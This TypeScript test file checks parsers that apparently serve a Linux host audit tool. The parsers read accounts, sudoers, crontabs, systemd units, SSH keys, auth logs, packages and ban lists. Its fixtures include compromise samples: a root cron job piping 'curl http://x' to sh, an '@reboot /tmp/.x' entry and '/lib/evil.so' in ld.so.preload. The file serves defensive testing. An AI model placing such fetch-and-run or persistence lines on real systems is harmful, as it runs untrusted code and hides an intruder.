import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Parsed } from '../../core/parsed.js';
import { readAccounts, readSudoers } from './accounts.js';
import { readAuthLog } from './auth-log.js';
import { readCrowdsecDecisions, readFail2banStatus } from './bans.js';
import { splitFileSections } from './file-sections.js';
import { readCpu, readLoadAverage, readMeminfo, readOsRelease, readUname, readUptimeSeconds } from './machine.js';
import { readDebianChangelog, readDebianPackages, readPackageVerify, readPendingUpgrades } from './packages.js';
import { readLdPreload, readResolver } from './resolver.js';
import { readCrontabs, readSystemdUnits } from './schedules.js';
import { keyFingerprint, readAuthorizedKeys, readSshdConfig } from './ssh.js';

const clock = { now: new Date('2025-12-13T08:38:10Z') };

function contentOf<T>(reading: Parsed<T>): T {
  if (!reading.ok) throw new Error(reading.reason);
  return reading.value;
}

describe('machine', () => {
  it('reads the files and the commands', () => {
    expect(contentOf(readOsRelease('NAME="Debian GNU/Linux"\nID=debian\nVERSION_ID="12"\n')).get('VERSION_ID')).toBe(
      '12',
    );
    expect(contentOf(readUname('Linux web-1 6.1.0-28-amd64 #1 SMP Debian x86_64 GNU/Linux'))).toEqual({
      release: '6.1.0-28-amd64',
      hostname: 'web-1',
      machine: 'x86_64',
    });
    expect(contentOf(readUptimeSeconds('3600.25 7000.10\n'))).toBe(3600.25);
    expect(contentOf(readUptimeSeconds(' 08:38:10 up 12 days,  3:05,  1 user,  load average: 4.10, 3.00, 1.50'))).toBe(
      12 * 86_400 + 3 * 3600 + 300,
    );
    expect(contentOf(readLoadAverage('4.10 3.00 1.50 2/300 12345'))).toEqual([4.1, 3, 1.5]);
    expect(contentOf(readLoadAverage('08:38:10 up 1 min, load average: 4.10, 3.00, 1.50'))).toEqual([4.1, 3, 1.5]);
    expect(contentOf(readMeminfo('MemTotal:        8074036 kB\nHugePages_Total:  2')).get('MemTotal')).toBe(
      8074036 * 1024,
    );
    expect(contentOf(readCpu('processor\t: 0\nmodel name\t: X\nprocessor\t: 1\n'))).toEqual({ count: 2, model: 'X' });
    expect(contentOf(readCpu('4\n'))).toEqual({ count: 4, model: null });
  });

  it.each([readOsRelease, readUname, readUptimeSeconds, readLoadAverage, readMeminfo, readCpu])(
    '%o refuses other text',
    (read) => {
      expect(read('hello world').ok).toBe(false);
      expect(read('').ok).toBe(false);
    },
  );
});

describe('files', () => {
  it('splits tail -v and keeps line numbers', () => {
    expect(splitFileSections('==> /a b <==\n1\n\n==> /c <==\n==> no path <==\n')).toEqual([
      { path: '/a b', lines: [{ line: 2, text: '1' }] },
      { path: '/c', lines: [{ line: 5, text: '==> no path <==' }] },
    ]);
  });

  it('reads accounts without their hashes', () => {
    const text =
      '==> /etc/passwd <==\nroot:x:0:0:root:/root:/bin/bash\n==> /etc/shadow <==\nroot:$y$j9T$secret:19000:0:99999:7:::\nx::1:0:99999:7:::\ny:!:1:0:9:7:::\n==> /etc/group <==\ndocker:x:999:ops,ci\nbad';
    const reading = readAccounts(text);
    expect(contentOf(reading)).toMatchObject([
      { kind: 'user', name: 'root', uid: 0, shell: '/bin/bash', line: 2 },
      { kind: 'password', name: 'root', state: 'set' },
      { state: 'empty' },
      { state: 'locked' },
      { kind: 'group', members: ['ops', 'ci'] },
    ]);
    expect(JSON.stringify(reading)).not.toContain('secret');
    expect(readAccounts('a:b').ok).toBe(false);
  });

  it('reads sudoers', () => {
    const text =
      '==> /etc/sudoers <==\n# c\nDefaults env_reset\n%sudo ALL=(ALL:ALL) ALL\nci ALL=(root) NOPASSWD: \\\n  /bin/ls\nops ALL=(ALL) NOPASSWD:ALL\n@includedir /etc/sudoers.d\njunk';
    expect(readSudoers(text)).toMatchObject({
      value: [
        { kind: 'defaults' },
        { kind: 'grant', who: '%sudo', noPassword: false, allCommands: true, line: 4 },
        { who: 'ci', noPassword: true, allCommands: false, line: 5 },
        { who: 'ops', noPassword: true, allCommands: true, line: 7 },
        { kind: 'include' },
      ],
      warnings: [{ line: 9 }],
    });
  });

  it('reads crontabs of system and users', () => {
    const text =
      '==> /etc/crontab <==\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts x\n==> /var/spool/cron/crontabs/root <==\n@reboot /tmp/.x\n*/5 * * * 1-5 curl http://x | sh\nnonsense';
    expect(readCrontabs(text)).toMatchObject({
      value: [
        {
          schedule: '17 * * * *',
          user: 'root',
          command: 'cd / && run-parts x',
          environment: new Map([['SHELL', '/bin/sh']]),
          line: 3,
        },
        { schedule: '@reboot', user: null, command: '/tmp/.x', environment: new Map(), line: 5 },
        { schedule: '*/5 * * * 1-5', command: 'curl http://x | sh' },
      ],
      warnings: [{ line: 7 }],
    });
    expect(readCrontabs('hello').ok).toBe(false);
  });

  it('reads units and drop-ins', () => {
    const text =
      '==> /etc/systemd/system/a.service <==\n[Service]\nExecStart=/bin/a \\\n  -x\n==> /etc/systemd/system/a.service.d/o.conf <==\n[Service]\nExecStart=\nbad';
    expect(readSystemdUnits(text)).toMatchObject({
      value: [
        { unit: 'a.service', isDropIn: false, section: 'Service', key: 'ExecStart', value: '/bin/a    -x', line: 3 },
        { unit: 'a.service', isDropIn: true, value: '', line: 7 },
      ],
      warnings: [{ line: 8 }],
    });
  });

  it('reads ld.so.preload, hosts and getent', () => {
    expect(contentOf(readLdPreload('# x\n/lib/evil.so\n'))).toEqual([{ path: '/lib/evil.so', line: 2 }]);
    expect(
      contentOf(
        readResolver(
          '127.0.0.1 localhost web # c\n::1 localhost\n::1             STREAM localhost\n::1  DGRAM\n127.0.0.1 STREAM\n',
        ),
      ),
    ).toMatchObject([
      { source: 'hosts', names: ['localhost', 'web'] },
      { source: 'hosts', address: '::1' },
      { source: 'ahosts', address: '::1', names: ['localhost'], line: 3 },
      { source: 'ahosts', address: '127.0.0.1', names: ['localhost'] },
    ]);
    const file = new URL('../../../../../test/bundles/2025-12-12T2242/artifacts/11-host-resolver.txt', import.meta.url);
    expect(readResolver(readFileSync(file, 'utf8'))).toMatchObject({ ok: true, warnings: [] });
    expect(readResolver('localhost 127.0.0.1').ok).toBe(false);
  });
});

describe('ssh', () => {
  const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f';

  it('reads authorized keys with options', () => {
    const text = `==> /root/.ssh/authorized_keys <==\nssh-ed25519 ${key} ops@home\nfrom="10.0.0.1,10.0.0.2",command="echo \\"a b\\"" ssh-ed25519 ${key}\nbroken`;
    const fingerprint = keyFingerprint(key);
    expect(fingerprint).toMatch(/^SHA256:[\w+/]{43}$/);
    expect(readAuthorizedKeys(text)).toMatchObject({
      value: [
        {
          path: '/root/.ssh/authorized_keys',
          options: [],
          keyType: 'ssh-ed25519',
          fingerprint,
          comment: 'ops@home',
          line: 2,
        },
        { options: ['from="10.0.0.1,10.0.0.2"', 'command="echo \\"a b\\""'], comment: '' },
      ],
      warnings: [{ line: 4 }],
    });
  });

  it('reads sshd -T', () => {
    expect(contentOf(readSshdConfig('port 22\npermitrootlogin without-password\n'))[1]).toEqual({
      key: 'permitrootlogin',
      value: 'without-password',
      line: 2,
    });
    expect(readSshdConfig('{"a":1}').ok).toBe(false);
  });

  it('reads login attempts of both stamps and both programs', () => {
    const text = [
      'Dec 13 08:00:01 web-1 sshd[99]: Accepted publickey for root from 198.51.100.7 port 5123 ssh2: ED25519 SHA256:abc+/1',
      '2025-12-13T08:00:02.123456+01:00 web-1 sshd-session[100]: Failed password for invalid user admin from 203.0.113.9 port 42 ssh2',
      'Dec 31 23:59:59 web-1 sshd[101]: Invalid user x from 1.1.1.1 port 9 from 203.0.113.9 port 43',
      'Dec 13 08:00:03 web-1 CRON[5]: pam_unix(cron:session): session opened',
    ].join('\n');
    expect(contentOf(readAuthLog(text, clock))).toEqual([
      {
        at: new Date('2025-12-13T08:00:01Z'),
        outcome: 'accepted',
        method: 'publickey',
        user: 'root',
        address: '198.51.100.7',
        port: 5123,
        fingerprint: 'SHA256:abc+/1',
        pid: 99,
        line: 1,
      },
      {
        at: new Date('2025-12-13T07:00:02.123Z'),
        outcome: 'failed',
        method: 'password',
        user: 'admin',
        address: '203.0.113.9',
        port: 42,
        fingerprint: null,
        pid: 100,
        line: 2,
      },
      {
        at: new Date('2024-12-31T23:59:59Z'),
        outcome: 'invalid-user',
        method: null,
        user: 'x from 1.1.1.1 port 9',
        address: '203.0.113.9',
        port: 43,
        fingerprint: null,
        pid: 101,
        line: 3,
      },
    ]);
    expect(readAuthLog('hello', clock).ok).toBe(false);
  });
});

describe('packages and bans', () => {
  it('reads dpkg, apt and changelogs', () => {
    expect(contentOf(readDebianPackages('libc6:amd64\t2.36-9\nnginx\t1.22.1-9\ngone\t\n'))).toMatchObject([
      { name: 'libc6', architecture: 'amd64' },
      { name: 'nginx', version: '1.22.1-9' },
    ]);
    expect(
      contentOf(readPackageVerify('??5??????   /usr/bin/x\n??5?????? c /etc/y\nmissing     /usr/bin/z\n')),
    ).toMatchObject([
      { path: '/usr/bin/x', isChecksumWrong: true, isConfig: false },
      { isConfig: true },
      { isMissing: true, path: '/usr/bin/z' },
    ]);
    expect(
      contentOf(readPendingUpgrades('Reading…\nInst nginx [1.0] (1.1 Debian-Security:12/stable-security [amd64])\n')),
    ).toMatchObject([{ name: 'nginx', installed: '1.0', candidate: '1.1', isSecurity: true }]);
    expect(
      contentOf(
        readDebianChangelog(
          'nginx (1.22.1-9+deb12u1) bookworm-security; urgency=high\n\n  * Fix CVE-2023-44487, CVE-2023-44487\n',
        ),
      ),
    ).toMatchObject([{ version: '1.22.1-9+deb12u1', cves: ['CVE-2023-44487'] }]);
    expect(
      [readDebianPackages('hello'), readPackageVerify('hello'), readDebianChangelog('hello')].map(({ ok }) => ok),
    ).toEqual([false, false, false]);
  });

  it('reads bans', () => {
    const text =
      'Status for the jail: sshd\n|- Filter\n|  |- Currently failed:\t2\n|  `- Total failed:\t40\n`- Actions\n   |- Currently banned:\t1\n   |- Total banned:\t3\n   `- Banned IP list:\t203.0.113.9 203.0.113.10\n';
    expect(contentOf(readFail2banStatus(text))).toMatchObject([
      { name: 'sshd', currentlyFailed: 2, totalBanned: 3, bannedAddresses: ['203.0.113.9', '203.0.113.10'] },
    ]);
    expect(
      contentOf(
        readCrowdsecDecisions(
          '[{"created_at":"2025-12-13T08:00:00Z","decisions":[{"value":"203.0.113.9","type":"ban","scope":"Ip"}]}]',
        ),
      ),
    ).toMatchObject([{ value: '203.0.113.9', type: 'ban' }]);
    expect(contentOf(readCrowdsecDecisions('null'))).toEqual([]);
    expect([readFail2banStatus('x').ok, readCrowdsecDecisions('x').ok]).toEqual([false, false]);
  });
});

const READERS: readonly ((text: string) => unknown)[] = [
  readOsRelease,
  readUname,
  readUptimeSeconds,
  readLoadAverage,
  readMeminfo,
  readCpu,
  readAccounts,
  readSudoers,
  readCrontabs,
  readSystemdUnits,
  readLdPreload,
  readResolver,
  readAuthorizedKeys,
  readSshdConfig,
  (text) => readAuthLog(text, clock),
  readDebianPackages,
  readPackageVerify,
  readPendingUpgrades,
  readDebianChangelog,
  readFail2banStatus,
  readCrowdsecDecisions,
  splitFileSections,
];

it('never throws', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.json()), (text) => {
      for (const read of READERS) read(text);
    }),
  );
});

it.each([' ', 'a ', '* ', '\\\n', '==> /', 'a,"', ' from ', 'up ', '1.', 'ALL ', '|-'])(
  'takes linear time for repeated %j',
  (part) => {
    const started = performance.now();
    for (const read of READERS) read(part.repeat(50_000));
    for (const read of READERS) read(`x ALL=${part.repeat(50_000)}!`);
    expect(performance.now() - started).toBeLessThan(3_000);
  },
);
